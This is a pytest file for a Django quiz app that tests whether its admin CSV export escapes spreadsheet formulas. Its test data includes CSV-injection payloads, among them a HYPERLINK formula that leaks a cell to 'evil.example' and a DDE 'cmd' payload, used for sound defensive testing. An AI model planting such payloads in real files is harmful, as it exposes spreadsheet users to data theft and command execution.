"""CSV exports never hand a spreadsheet a formula: a text cell starting with = + - @, a tab
or a carriage return is written with a leading apostrophe."""

import csv
import io

import pytest
from django.test import Client

from tests import factories
from tests.quizzes import factories as quiz_factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_item_analysis_csv_neutralises_formulas_in_question_and_choice_text(
    formula, admin_client
):
    question = quiz_factories.question(
        stem=f"<p>{formula}</p>", choices=[(formula, True), ("No", False)]
    )
    quiz = quiz_factories.quiz(questions=[question])
    learner = Client()
    learner.force_login(factories.UserFactory())
    attempt = learner.post(
        f"/en/quizzes/{quiz.translation_key}/attempts/", "{}", content_type="application/json"
    ).json()["attempt"]
    learner.post(
        f"/en/quizzes/attempts/{attempt['id']}/submit/",
        '{"submission_key": "k"}',
        content_type="application/json",
    )

    response = admin_client.get(
        f"/admin/quizzes/item-analysis/{quiz.translation_key}/", {"format": "csv"}
    )

    assert response.status_code == 200
    cells = [cell for row in _csv_cells(response)[1:] for cell in row]
    text_cells = [cell for cell in cells if formula.strip() in cell]
    assert text_cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.replace(".", "", 1).lstrip("-").isdigit(), cell
